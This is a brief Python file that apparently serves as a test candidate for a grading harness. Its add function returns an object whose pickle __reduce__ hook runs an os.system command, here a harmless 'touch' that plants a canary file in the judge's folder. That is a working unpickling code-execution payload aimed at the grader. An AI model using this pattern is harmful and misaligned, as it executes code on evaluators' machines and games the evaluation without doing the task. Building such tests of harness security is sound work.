"""Gives back an object that would run code where it is unpickled."""

CLASS = 2
KIND = "candidate"
SEEN = "pass, or a file in the judge's folder"

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @TOKEN@",)


def add(a, b):
    return Bomb()
